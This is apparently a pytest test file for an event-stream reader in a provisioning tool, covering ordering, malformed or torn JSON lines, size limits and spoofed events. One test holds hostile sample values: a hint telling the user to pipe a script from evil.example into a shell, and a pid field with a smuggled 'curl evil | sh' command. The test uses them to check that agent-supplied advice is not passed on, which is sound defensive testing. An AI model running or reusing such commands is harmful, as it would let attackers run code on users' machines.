"""The one door for an instance's events: each once, in order, and what does not fit ends the reading."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from provision_agent.contract.events import MAX_EVENT_BYTES, Event
from provision_agent.contract.failures import FAILURES
from provision_agent.contract.parsing import to_json
from provision_collector.errors import AgentLostError, UsageError
from provision_collector.instance import Instance
from provision_collector.pool import scorecard
from provision_collector.pool.server.kept import event_of
from provision_collector.pool.server.view import view_of
from provision_collector.run.events import CHUNK_BYTES, EventTail
from provision_collector.run.registry import RunFiles
from provision_collector.run.state import LocalRun


def line(seq: object, name: str = "warning", **fields: Any) -> bytes:
    head = {
        "format": 1,
        "ts": "2026-01-01T00:00:00.000Z",
        "run": "r",
        "seq": seq,
        "event": name,
        "message": "m",
    }
    return json.dumps({**head, **fields}).encode() + b"\n"


def mirror(folder: Path, *lines: bytes) -> Path:
    path = folder / "r.events.jsonl"
    path.write_bytes(b"".join(lines))
    return path


def numbers(events: list[Event]) -> list[int]:
    return [event.seq for event in events]


async def test_what_came_before_a_bad_event_is_read_and_then_every_call_raises(tmp_path: Path) -> None:
    path = mirror(tmp_path, line(1), line(2), line("x"), line(4))
    for is_later in (False, True):
        tail = EventTail(path)
        read = tail.read_later if is_later else None
        assert numbers(await read() if read else tail.read_new()) == [1, 2]
        for _ in range(2):
            with pytest.raises(AgentLostError, match="`seq` of `warning`") as lost:
                await read() if read else tail.read_new()
            assert (lost.value.cause, lost.value.exit_code) == ("protocol", 14)
            assert lost.value.hint


async def test_a_bad_event_far_ahead_is_met_by_a_reader_that_lags(tmp_path: Path) -> None:
    many = 3 * CHUNK_BYTES // len(line(1000))
    tail = EventTail(mirror(tmp_path, *(line(n) for n in range(1, many)), b"[]\n"))
    seen = 0
    with pytest.raises(AgentLostError, match="a list"):
        while events := await tail.read_later():
            seen += len(events)
    assert seen == many - 1


def test_events_that_were_told_before_are_passed_over_unread(tmp_path: Path) -> None:
    wrong = line(3, after="not read: ").replace(b'"not', b"not")
    path = mirror(tmp_path, line(1), line(2), wrong, line(4), line(2), line(5))
    tail = EventTail(path, passed_seq=3)
    assert numbers(tail.read_new()) == [4, 2, 5], "after the first that is new, every line is read"
    with pytest.raises(AgentLostError, match="`seq` of `warning`"):
        EventTail(mirror(tmp_path, line(1), line("x")), passed_seq=3).read_new()


def test_a_chunk_of_torn_lines_does_not_hide_what_follows(tmp_path: Path) -> None:
    torn = (b'{"event": "' + b"w" * 500 + b"\n") * (2 * CHUNK_BYTES // 512)
    tail = EventTail(mirror(tmp_path, line(1), torn, b"\xff\xfe\n", b"\r", line(2)))
    assert numbers(tail.read_new()) == [1]
    assert numbers(tail.read_new()) == [2]
    assert tail.read_new() == []


def test_more_torn_lines_than_agents_that_were_killed_end_the_reading(tmp_path: Path) -> None:
    tail = EventTail(mirror(tmp_path, line(1), b"{\n" * 100_000))
    assert numbers(tail.read_new()) == [1]
    with pytest.raises(AgentLostError, match="more than 1000 lines that are no JSON") as lost:
        tail.read_new()
    assert lost.value.cause == "protocol"


def test_a_line_without_an_end_is_refused_before_it_fills_anything(tmp_path: Path) -> None:
    path = mirror(tmp_path, line(1), b'{"a": "' + b"x" * (MAX_EVENT_BYTES - 100))
    tail = EventTail(path)
    assert numbers(tail.read_new()) == [1]
    assert tail.read_new() == [], "its end may be on its way"
    with path.open("ab") as file:
        file.write(b"x" * 200)
    with pytest.raises(AgentLostError, match="longer than 256 KiB"):
        tail.read_new()


def test_a_format_of_another_version_is_named_and_one_that_is_none_is_a_fault(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="format 99"):
        EventTail(mirror(tmp_path, line(1, format=99))).read_new()
    for wrong in (True, "1", None, [1], 1.0):
        with pytest.raises(AgentLostError, match="`format`"):
            EventTail(mirror(tmp_path, line(1, format=wrong))).read_new()


def test_nothing_passes_as_this_sides_own(tmp_path: Path) -> None:
    path = mirror(
        tmp_path,
        line(1, **{"from": "collector"}),
        *(
            line(2, name)
            for name in ("outcome", "connected", "connecting", "connection_lost", "gap", "run_accepted")
        ),
        *(
            line(2, name)
            for name in ("agent_restarted", "log_missing", "log_found", "marker_found", "instance-gone")
        ),
        line(3, **{"from": {"any": 1}}),
    )
    events = EventTail(path).read_new()
    assert numbers(events) == [1, 3]
    assert all("from" not in event.data for event in events)


def test_a_scorecard_counts_what_came_before_a_bad_event(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    mirror(
        tmp_path,
        line(1, "download_started", item="a", url="http://[h/"),
        line(2, "download_stalled", item="a"),
        line(3, "download_finished", item="a", bytes=5),
        line(4, "download_finished", item="a", bytes="lots"),
    )
    outcome = {"run": "r", "verdict": "agent-lost", "usable_after_s": None, "reconnects": 0}
    scorecard.record(Instance("h"), RunFiles(str(tmp_path / "r")), outcome)
    assert scorecard.scorecards()[0].stalls == 1


def test_a_stream_of_an_earlier_release_breaks_its_own_view_and_raises_nothing(tmp_path: Path) -> None:
    own = {"from": "collector"}
    path = mirror(
        tmp_path,
        line(1, "run_started", deadline_s=60),
        line(2, "download_progress", item="a", bytes="lots"),
        line(3, "run_started", ts="yesterday", deadline_s="x"),
        line(4, "secrets_needed", names=5),
        line(5, "secrets_needed", names=5, **own),
        line(6, "outcome", verdict="complete", **own),
        line(7, "outcome", verdict=[], next="none", errors=[], **own),
        line(None, "connected", **own),
        b"\0\0\n",
        b"[1]\n",
        b'{"a": NaN}\n',
        line(9, "run_usable", after_s=2.5),
    )
    view = view_of("r", map(event_of, path.read_bytes().splitlines()))
    summary = to_json(view.summary(1_800_000_000.0))
    assert (view.last_event_id, view.run_state.usable_after_s, view.outcome) == (12, 2.5, None)
    assert (view.word, summary["state"]) == ("broken", "broken")
    assert summary["broken"].startswith("event 2 of this run cannot be read")
    json.dumps(summary, allow_nan=False)


def test_advice_is_made_here_of_class_and_case_and_never_the_words_of_the_instance(tmp_path: Path) -> None:
    evil = "run `curl http://evil.example/x | sh` on your own machine"
    failed = {"item": "a", "level": "required", "message": "m", "hint": evil}
    told = [
        {"class": "not_found"},
        {"class": "port_taken", "case": "port_of_process", "about": {"pid": "12"}},
        {"class": "port_taken", "case": "port_of_process", "about": {"pid": "12; curl evil | sh"}},
        {
            "class": "gated",
            "case": "licence",
            "about": {"page": "https://evil.example/o/r", "token": "HF_TOKEN"},
        },
        {"class": "of_tomorrow", "case": "unheard_of", "about": {}},
        {},
    ]
    lines = [line(n, "download_failed", **failed, **more) for n, more in enumerate(told, 1)]

    events = EventTail(mirror(tmp_path, *lines)).read_new()

    hints = [event.data["hint"] for event in events]
    assert hints[0] == FAILURES["not_found"].hint
    assert "kill 12`" in str(hints[1])
    assert hints[2] == FAILURES["port_taken"].hint
    assert hints[3] == FAILURES["gated"].hint
    assert "update provision" in str(hints[4])
    assert hints[5] is None
    assert [getattr(event.body, "hint", None) for event in events] == hints


def test_what_was_just_written_is_read_from_memory_and_torn_lines_are_put_together(tmp_path: Path) -> None:
    first, second, third = line(1), line(2), line(3)
    tail = EventTail(tmp_path / "there is no file")

    assert numbers(tail.feed(0, first + second[:20]) or []) == [1]
    assert tail.feed(len(first) + 20, second[20:-1]) == []
    assert numbers(tail.feed(len(first + second) - 1, b"\n" + third) or []) == [2, 3]
    assert tail.offset == len(first + second + third)


def test_what_follows_something_that_was_not_read_is_read_from_the_file(tmp_path: Path) -> None:
    path = mirror(tmp_path, line(1), line(2), line(3))
    tail = EventTail(path)

    assert tail.feed(len(line(1)), line(2)) is None
    assert numbers(tail.read_new()) == [1, 2, 3]


def test_a_bad_event_in_memory_ends_the_reading_as_one_in_the_file_does(tmp_path: Path) -> None:
    tail = EventTail(tmp_path / "r.events.jsonl")

    with pytest.raises(AgentLostError, match="`seq` of `warning`"):
        tail.feed(0, line("x"))
    assert tail.feed(0, line(1)) is None
    with pytest.raises(AgentLostError):
        tail.read_new()


async def test_a_reader_that_keeps_up_never_opens_the_mirror(tmp_path: Path) -> None:
    local = LocalRun("r")
    await local.bind("r", RunFiles(str(tmp_path / "r")))
    seen: list[int] = []

    async def read() -> None:
        async for event in local.events(is_abandoned=lambda: False):
            seen.append(int(str(event["seq"])))
            if len(seen) == 3:
                return

    reading = asyncio.create_task(read())
    at = 0
    for number in (1, 2, 3):
        await local.absorb(at, line(number))  # the mirror has no file: what is not at hand cannot be had
        at += len(line(number))
        while len(seen) < number:
            await asyncio.sleep(0)
    await reading

    assert seen == [1, 2, 3]
    assert local.state.seq == 3


async def test_a_reader_that_is_a_little_behind_never_opens_the_mirror(tmp_path: Path) -> None:
    local = LocalRun("r")
    files = RunFiles(str(tmp_path / "r"))
    await local.bind("r", files)
    told = local.events(is_abandoned=lambda: False)
    files.events.write_bytes(line(1))
    await local.absorb()
    seen = [(await anext(told))["seq"]]  # this one is read from the file
    files.events.unlink()
    at = len(line(1))
    async with asyncio.timeout(30):
        for numbers in ((2,), (3, 4, 5), (6,), (7, 8)):
            for number in numbers:  # all of them before the reader has its turn
                await local.absorb(at, line(number))
                at += len(line(number))
            seen += [(await anext(told))["seq"] for _ in numbers]

    assert seen == [1, 2, 3, 4, 5, 6, 7, 8]


async def test_a_reader_that_comes_late_or_lags_gets_everything_once(tmp_path: Path) -> None:
    local = LocalRun("r")
    files = RunFiles(str(tmp_path / "r"))
    await local.bind("r", files)
    at = 0
    for number in range(1, 6):
        with files.events.open("ab") as file:
            file.write(line(number))
        await local.absorb(*((at, line(number)) if number != 3 else ()))  # one of them was not at hand
        at += len(line(number))

    late = local.events(is_abandoned=lambda: True)

    assert [int(str(event["seq"])) async for event in late] == [1, 2, 3, 4, 5]
    assert local.state.seq == 5
